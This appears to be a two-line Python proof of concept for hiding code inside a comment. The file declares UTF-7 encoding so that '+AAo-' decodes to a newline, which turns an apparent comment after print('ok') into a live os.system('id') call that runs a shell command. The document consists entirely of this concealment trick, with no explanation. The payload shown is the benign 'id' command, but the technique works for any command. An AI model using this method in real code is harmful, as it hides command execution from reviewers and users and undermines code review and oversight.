# -*- coding: utf-7 -*-
print("ok")  # +AAo-__import__('os').system('id')
